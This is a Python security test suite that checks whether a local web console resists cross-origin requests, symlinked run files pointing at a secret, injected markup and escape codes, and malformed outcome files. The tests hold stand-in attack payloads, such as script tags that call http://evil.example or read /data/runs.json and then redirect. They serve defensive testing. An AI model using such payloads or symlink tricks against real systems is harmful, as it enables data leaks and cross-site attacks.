"""Attacks on the console: from pages of other sites, and by what lies in a run's folder."""

from __future__ import annotations

import http.client
import json
import os
from collections.abc import Callable
from urllib.parse import urlsplit

from attacks import Found, attack, refused_if
from processes import wait_for
from route_rows import Pages
from theatre import Theatre, ask

from schemas.wire import topics
from twin.fabric.keys.roles import Role

LINKED = ("report.html", "search.json", "rulebook.json", "manifest.json", "timeline.jsonl")
"""Files of a run's folder that the console shows something of."""


@attack(11, "cancels a campaign from a page of another site", "a web site", "none")
def cancel_from_elsewhere(theatre: Theatre) -> Found:
    """Every request that a page of another site can make a browser send, and guessed tokens."""
    theatre.serve()
    theatre.submit("victim")
    words = ("viewer", "web", "--state", str(theatre.state), "--output", "json")
    child = theatre.marked.start(*words)
    assert child.stdout is not None
    url = json.loads(child.stdout.readline())["url"]
    port, token = urlsplit(url).port, url.partition("#steer=")[2]
    ours, evil = f"http://127.0.0.1:{port}", "http://evil.example"
    body = json.dumps({"run": "victim", "confirm": True})
    good = {"Origin": ours, "Content-Type": "application/json", "X-Steer-Token": token}
    tries = [
        {**good, "Origin": evil},
        {**good, "Origin": "null"},
        {**good, "Host": "evil.example"},
        {**good, "X-Steer-Token": ""},
        {**good, "X-Steer-Token": token[:-1]},
        {**good, "Content-Type": "text/plain"},
        {name: value for name, value in good.items() if name != "Origin"},
    ]
    statuses = {_asked(port, "/act/cancel", headers, body)[0] for headers in tries}
    bus = theatre.own(Role.viewer)

    def cancelled() -> int:
        answer = ask(bus, topics.RPC_STATUS.key, 30.0, verb="status")
        assert answer is not None
        return int(answer["status"]["campaigns"]["victim"]["cancelled"])

    unharmed = cancelled() == 0
    # The same with everything right, or all of this would prove nothing.
    wait_for(lambda: _asked(port, "/act/cancel", good, body)[0] == 200, "what a page may do")
    assert cancelled()
    return refused_if(
        unharmed and statuses == {403},
        f"origin, token and type are looked at: {len(tries)} tries, HTTP 403",
        f"HTTP {sorted(statuses)}",
    )


@attack(11, "files of a run as links to a file of mode 0600", "who writes a run folder", "files")
def run_files_as_links(theatre: Theatre) -> Found:
    """Everything that the console tells of a run and of its case."""
    pages = Pages(theatre)
    for name in LINKED:
        (pages.run / name).symlink_to(theatre.secret)
    for name in ("kpi.parquet", "log.txt", "recording.json"):
        (pages.attempt / name).unlink(missing_ok=True)
        (pages.attempt / name).symlink_to(theatre.secret)
    port = pages.open()
    paths = ["data/runs.json", "report/run/report.html"]
    names = ("run.json", "table.json", "search.json", "rulebook.json", "workers.json")
    paths += [f"data/runs/run/{name}" for name in (*names, "pictures/atlas.json")]
    paths += [f"data/runs/run/cases/c/{name}" for name in ("case.json", "series.json")]
    secret = theatre.secret.read_bytes()
    answers = [_asked(port, f"/{path}", {})[1] for path in paths]
    (pages.run / "outcomes.json").symlink_to(theatre.secret)
    answers += [_asked(port, f"/{path}", {})[1] for path in paths]
    leaked = [path for path, data in zip(paths * 2, answers, strict=True) if secret in data]
    return refused_if(not leaked, f"links count as nothing; {len(paths)} addresses", str(leaked))


@attack(11, "writes markup into its log and its case's reasons", "stack under test", "its user")
def markup_in_a_log(theatre: Theatre) -> Found:
    """What a browser takes the answers for: data and never a page."""
    pages = Pages(theatre)
    evil = "<script>fetch('http://evil.example')</script>\x1b[2J"
    (pages.attempt / "log.txt").write_text(evil)
    case = {"outcome": "failed", "reasons": [evil], "charges": [evil], "attempts": 1}
    outcomes = {"campaign": "run", "complete": True, "cases": {"c": case}}
    (pages.run / "outcomes.json").write_text(json.dumps(outcomes))
    port = pages.open()
    for name in ("cases/c/case.json", "table.json"):
        status, data, headers = _answer(port, f"/data/runs/run/{name}")
        assert status == 200, data
        harmless = (
            headers["Content-Type"] == "application/json"
            and headers["X-Content-Type-Options"] == "nosniff"
            and "script-src 'self' 'wasm-unsafe-eval';" in headers["Content-Security-Policy"]
            and b"\x1b" not in data
        )
        if not harmless:
            return Found("open", f"{name}: {dict(headers)}")
    return Found("refused", "data of one type, escaped; scripts come from files of ours alone")


@attack(11, "reads the console from a page of another site", "a web site", "none")
def read_from_elsewhere(theatre: Theatre) -> Found:
    """Every kind of address, the events among them, under another origin and another name."""
    theatre.serve()
    theatre.submit("victim")
    words = ("viewer", "web", "--state", str(theatre.state), "--output", "json")
    child = theatre.marked.start(*words)
    assert child.stdout is not None
    port = urlsplit(json.loads(child.stdout.readline())["url"]).port
    wait_for(lambda: b'"victim"' in _asked(port, "/data/runs.json", {})[1], "the campaign")
    data = ("runs.json", "events", "runs/victim/run.json", "runs/victim/table.json")
    paths = [f"/data/{name}" for name in (*data, "runs/victim/workers.json", "compare/a/b.json")]
    paths += ["/", "/view", "/running.json", "/about.json", "/report/victim/report.html"]
    statuses = {
        _asked(port, path, headers)[0]
        for path in paths
        for headers in ({"Origin": "http://evil.example"}, {"Host": "evil.example"})
    }
    return refused_if(
        statuses == {403}, f"{len(paths)} addresses, HTTP 403", f"HTTP {sorted(statuses)}"
    )


@attack(11, "hides other campaigns from the console's list", "who writes a run folder", "files")
def run_that_hides_others(theatre: Theatre) -> Found:
    """Outcomes that are no file, damaged, nested too deeply or too large, beside a whole run."""
    pages = Pages(theatre)
    outcomes = pages.run / "outcomes.json"
    evil: tuple[Callable[[], object], ...] = (
        lambda: outcomes.write_bytes(bytes(1000)),
        lambda: outcomes.write_bytes(b"[" * 200_000),
        lambda: outcomes.symlink_to("/dev/zero"),
        lambda: os.mkfifo(outcomes),
        lambda: (outcomes.touch(), os.truncate(outcomes, 1 << 40)),
    )
    (theatre.folder / "victim" / "cases").mkdir(parents=True)
    port = pages.open(theatre.folder)
    for make in evil:
        make()
        status, data = _asked(port, "/data/runs.json", {})
        rows = {row["id"]: row["error"] for row in json.loads(data)["runs"]} if data else {}
        outcomes.unlink()
        if status != 200 or rows.get("victim", "lost") is not None or not rows["run"]:
            return Found("open", f"HTTP {status}: {rows}")
    return Found("refused", f"one line says what is wrong with it; {len(evil)} tries")


@attack(11, "a report whose script asks the console", "who writes a run folder", "its user")
def report_that_asks(theatre: Theatre) -> Found:
    """What a browser lets a report do: it has no origin, and may load nothing."""
    pages = Pages(theatre)
    script = "<script>fetch('/data/runs.json').then(r => location = 'http://evil.example')</script>"
    (pages.run / "report.html").write_text(script)
    _, data, headers = _answer(pages.open(), "/report/run/report.html")
    assert script.encode() == data
    rules = dict(rule.split(" ", 1) for rule in headers["Content-Security-Policy"].split("; "))
    shut = rules["sandbox"] == "allow-scripts" and rules["default-src"] == "'none'"
    shut = shut and not {"connect-src", "frame-src", "worker-src"} & set(rules)
    return refused_if(shut, "an origin of its own, which may ask nobody", str(rules))


def _asked(
    port: int | None, path: str, headers: dict[str, str], body: str = ""
) -> tuple[int, bytes]:
    """Status and content."""
    line = http.client.HTTPConnection("127.0.0.1", port, timeout=60)
    try:
        line.request("POST" if body else "GET", path, body or None, headers)
        answer = line.getresponse()
        return answer.status, answer.read()
    finally:
        line.close()


def _answer(port: int, path: str) -> tuple[int, bytes, http.client.HTTPMessage]:
    """Status, content and headers."""
    line = http.client.HTTPConnection("127.0.0.1", port, timeout=60)
    try:
        line.request("GET", path)
        answer = line.getresponse()
        return answer.status, answer.read(), answer.headers
    finally:
        line.close()
